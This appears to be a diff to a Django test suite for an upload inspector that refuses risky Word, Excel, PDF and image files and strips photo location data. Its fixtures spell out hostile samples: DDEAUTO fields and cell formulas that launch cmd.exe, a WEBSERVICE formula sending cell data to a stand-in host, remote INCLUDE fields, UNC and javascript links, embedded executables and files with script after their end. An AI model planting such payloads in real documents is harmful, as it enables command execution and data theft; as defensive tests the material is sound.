@@ -6,19 +6,25 @@ import sys
 import zipfile
 import zlib
 from collections.abc import Callable
+from decimal import Decimal
 from io import BytesIO
 
+import pikepdf
 import pytest
+from django import forms
 from django.core.exceptions import RequestDataTooBig
-from django.core.files.uploadedfile import UploadedFile
+from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
 from django.test import RequestFactory
 from django.test.client import BOUNDARY, MULTIPART_CONTENT
+from django.utils.datastructures import MultiValueDict
 from pikepdf import Array, Dictionary, Name
 from PIL import Image
 
 from invoicing.einvoice import ubl_invoice
 from invoicing.pdf import invoice_pdf
-from office.uploads import LARGEST, Kind, Upload, UploadRefused, inspect, inspector, refuse_size
+from office.exports import xlsx_file
+from office.forms import UploadField, said_of_read
+from office.uploads import LARGEST, Kind, Upload, UploadRefused, images, inspect, inspector, refuse_size
 from office.uploads.handler import InMemoryUpToTheLimit
 from tests.einvoices import INVOICE
 from tests.office import files
@@ -198,6 +204,93 @@ REFUSED: dict[str, tuple[bytes | Callable[[], bytes], str]] = {  # what takes ti
 }
 
 
+DOCX, XLSX = files.DOCX_MAIN, files.XLSX_MAIN
+MS, SHEET = "application/vnd.ms-excel.", "application/vnd.openxmlformats-officedocument.spreadsheetml."
+
+
+def words(*runs: str) -> bytes:
+    return files.office(parts={"word/document.xml": files.document(*runs)})
+
+
+def cell(formula: str) -> bytes:
+    return files.office(XLSX, parts={"xl/worksheets/sheet1.xml": files.sheet(formula)})
+
+
+def with_part(path: str, kind: str, main: str = XLSX) -> bytes:
+    return files.office(main + files.part(path, kind), parts={path: b"<x/>"})
+
+
+def png_that_ends_twice() -> bytes:
+    return files.image("PNG") + b"<script>" + files.image("PNG")[-12:]
+
+
+def pdf_that_ends_twice() -> bytes:
+    whole = files.pdf()
+    return whole + b"<script>\n" + whole[whole.rindex(b"startxref") :]
+
+
+REFUSED |= {
+    "a web query": (with_part("xl/connections.xml", f"{SHEET}connections+xml"), "koppling till data"),
+    "a table that asks the web": (with_part("xl/queryTables/q1.xml", f"{SHEET}queryTable+xml"), "koppling till data"),
+    "a relation to a web query": (files.office(XLSX, relations=files.inner("connections", "x.xml")), "koppling till"),
+    "a relation to another book": (files.office(XLSX, relations=files.inner("externalLink", "x.xml")), "koppling till"),
+    "a sheet of macros of Excel 4": (with_part("xl/macrosheets/s.xml", f"{MS}macrosheet+xml"), "makron"),
+    "the same in large letters": (with_part("xl/x.xml", f"{MS}MacroSheet+XML".upper()), "makron"),
+    "a relation to a sheet of macros": (files.office(XLSX, relations=files.inner("xlMacrosheet", "a.xml")), "makron"),
+    "a dialogue of Excel 5": (with_part("xl/d.xml", f"{SHEET}dialogsheet+xml"), "dialogsheet"),
+    "a document in the document": (
+        files.office(parts={"word/document.xml": files.document("<w:altChunk/>")}),
+        "altChunk",
+    ),
+    "a relation to a document in it": (files.office(relations=files.inner("aFChunk", "a.html")), "afchunk"),
+    "a web page in it": (with_part("word/a.html", "text/html", DOCX), "inbäddad fil"),
+    "a program in it": (with_part("word/embeddings/x.exe", "application/x-msdownload", DOCX), "inbäddad fil"),
+    "a program of no type": (files.office(parts={"word/media/x.exe": b"MZ"}), "x.exe"),
+    "a book in it": (with_part("word/embeddings/x.xlsx", f"{SHEET}sheet", DOCX), "inbäddad fil"),
+    "a relation to a program": (files.office(relations=files.inner("package", "x.bin")), "package"),
+    "a DDE field": (words(files.field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")), "DDEAUTO"),
+    "a DDE field in pieces": (words(files.field(" D", "DE", "AUTO", " cmd x")), "DDEAUTO"),
+    "a DDE field in small letters": (words(files.field("dde cmd x")), "DDE"),
+    "a DDE field of one element": (words('<w:fldSimple w:instr="DDE cmd x"/>'), "DDE"),
+    "a DDE field without an end": (words("<w:instrText>DDEAUTO cmd</w:instrText>"), "DDEAUTO"),
+    "a DDE field within another": (words(files.field("IF ", files.field("DDE cmd x"), " = 1")), "DDE"),
+    "a field that is put together": (words(files.field(files.field("QUOTE 68 68 69"), " cmd x")), "QUOTE"),
+    "a DDE field in a footer": (
+        files.office(parts={"word/footer1.xml": files.document(files.field("DDEAUTO cmd x"))}),
+        "DDEAUTO",
+    ),
+    "a picture from the web in a field": (words(files.field("INCLUDEPICTURE https://ond.example/x.png")), "INCLUDEP"),
+    "a text from a share in a field": (words(files.field("INCLUDETEXT //ond/x.docx")), "INCLUDETEXT"),
+    "a cell that starts a program": (cell("cmd|'/C calc'!A0"), "startar ett program"),
+    "a cell that starts a program in quotes": (cell("'cmd'|'/C calc'!A0"), "startar ett program"),
+    "a cell that asks the web": (cell("WEBSERVICE(&quot;https://ond.example/&quot;&amp;A1)"), "WEBSERVICE"),
+    "a cell that asks in coded letters": (cell("_xlfn.&#87;EBSERVICE (A1)"), "WEBSERVICE"),
+    "a cell with a picture from the web": (cell("_xlfn.IMAGE(&quot;https://ond.example/x.png&quot;)"), "IMAGE"),
+    "a name that starts a program": (
+        files.office(XLSX, parts={"xl/workbook.xml": b"<w><definedName>cmd|'/C calc'!A0</definedName></w>"}),
+        "startar ett program",
+    ),
+    "a link to a share": (
+        files.office(relations=files.relation("hyperlink", "file://ond/share/x")),
+        "länk till en fil",
+    ),
+    "a link to a share as Windows writes it": (
+        files.office(relations=files.relation("hyperlink", r"\\ond\share\x.exe")),
+        "länk till en fil",
+    ),
+    "a link that is a script": (
+        files.office(relations=files.relation("hyperlink", "javascript:x")),
+        "länk till en fil",
+    ),
+    "a picture from the web": (
+        files.office(relations=files.relation("image", "https://ond.example/x.png")),
+        "annan plats",
+    ),
+    "PNG with another end after its end": (png_that_ends_twice(), "efter dess slut"),
+    "PDF with another end after its end": (pdf_that_ends_twice(), "efter sitt slut"),
+}
+
+
 def refusal_of(what: str, look_through: Callable[[bytes], object]) -> str:
     content, says = REFUSED[what]
 
@@ -273,6 +366,105 @@ def test_memory_stays_bounded_whatever_a_file_unpacks_to() -> None:
 
     assert len(bomb) < 500_000
     assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < inspector.MEMORY // 1000
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        words(files.field(" PAGE "), files.field("NUM", "PAGES"), files.field("TOC \\o"), files.field("=A1*2")),
+        words(
+            files.field("IF ", files.field("MERGEFIELD x"), " = 1"), '<w:fldSimple w:instr=" date "/>', files.field()
+        ),
+        cell("SUM(A1:A9)*1.03"),
+        cell("&quot;a|b&quot;&amp;'Blad|2'!A1"),
+        files.office(relations=files.relation("hyperlink", "mailto:anna@example.se")),
+        files.office(
+            DOCX + files.part("docMetadata/LabelInfo.xml", "application/vnd.ms-office.classificationlabels+xml"),
+            parts={"docMetadata/LabelInfo.xml": b"<x/>"},
+        ),
+        files.office(
+            '<Default Extension="PNG" ContentType="image/png"/>' + DOCX, parts={"word/media/image1.png": b"x"}
+        ),
+        xlsx_file(["Nummer", "Belopp"], [["0017", Decimal("617000.50")], ["=1+1", None]]),
+    ],
+)
+def test_what_people_write_in_word_and_excel_is_taken(content: bytes) -> None:
+    assert inspector.inspect(content) in ("docx", "xlsx")
+
+
+def test_a_pdf_that_was_signed_or_added_to_is_taken() -> None:
+    """Each version begins with objects of its own and ends in a table of its own."""
+    whole = files.pdf()
+    start, place = whole[whole.rindex(b"startxref") :].split()[1], len(whole)
+    added = b"9 0 obj\n<< /A 1 >>\nendobj\n"
+    table = f"xref\n9 1\n{place:010} 00000 n \ntrailer\n<< /Size 10 /Root 1 0 R /Prev {start.decode()} >>\n"
+    content = whole + added + table.encode() + f"startxref\n{place + len(added)}\n%%EOF\n".encode()
+    assert inspector.inspect(content) == "pdf"
+
+
+def test_a_pdf_made_for_the_web_is_taken() -> None:
+    made, out = pikepdf.new(), BytesIO()
+    made.add_blank_page()
+    made.save(out, linearize=True)
+    assert inspector.inspect(out.getvalue()) == "pdf"
+    with pytest.raises(UploadRefused, match="PDF-filen är skadad"):
+        inspector.inspect(out.getvalue() + b"<script>\nstartxref\n0\n%%EOF\n")
+
+
+TOLD = "Uppgifter i bilden om var, när och med vad den togs är borttagna."
+AFTER = "Det som följde efter bildens slut är borttaget."
+
+
+@pytest.mark.parametrize("orientation", [1, 3, 6, 8])
+def test_a_photograph_is_kept_without_where_it_was_taken(orientation: int) -> None:
+    taken = files.photograph(orientation=orientation)
+    kept, said = images.clean_jpeg(taken)
+
+    assert said == [TOLD]
+    assert not any(word in kept for word in (b"Kameran", b"59.27"))
+    with Image.open(BytesIO(kept)) as after, Image.open(BytesIO(taken)) as before:
+        assert dict(after.getexif()) == ({} if orientation == 1 else {0x0112: orientation})
+        assert not after.getexif().get_ifd(0x8825)
+        assert (after.size, after.tobytes()) == (before.size, before.tobytes())
+    assert images.clean_jpeg(kept) == (kept, [])
+
+
+def test_a_picture_of_the_web_is_kept_without_its_words() -> None:
+    taken = files.photograph("PNG")
+    kept = inspect(taken)
+
+    assert kept.said == (TOLD,)
+    assert b"eXIf" in taken
+    assert b"eXIf" not in kept.content
+    with Image.open(BytesIO(kept.content)) as after, Image.open(BytesIO(taken)) as before:
+        assert after.tobytes() == before.tobytes()
+
+
+@pytest.mark.parametrize("tail", [b"<script>", b"\xff\xd8\xff\xe0 another", bytes(9) + b"x"])
+def test_what_follows_the_end_of_a_photograph_is_cut_and_said(tail: bytes) -> None:
+    whole = files.image("JPEG")
+    assert images.clean_jpeg(whole + tail) == (whole, [AFTER])
+
+
+def test_both_are_said_of_one_file() -> None:
+    assert inspect(files.photograph() + b"<script>").said == (TOLD, AFTER)
+
+
+def test_a_photograph_in_several_passes_is_kept_whole() -> None:
+    out = BytesIO()
+    Image.effect_noise((64, 64), 90).save(out, "JPEG", progressive=True, quality=95, restart_marker_rows=1)
+    assert images.clean_jpeg(out.getvalue()) == (out.getvalue(), [])
+
+
+class HandIn(forms.Form):
+    file = UploadField()
+
+
+def test_what_was_taken_out_of_a_picture_is_said_on_the_page() -> None:
+    taken = SimpleUploadedFile("IMG_0001.JPG", files.photograph(), "image/jpeg")
+    form = HandIn({}, MultiValueDict({"file": [taken]}))
+    assert form.is_valid()
+    assert said_of_read(form) == [TOLD]
 
 
 def received(content: bytes, *, length: str = "") -> "UploadedFile[bytes]":
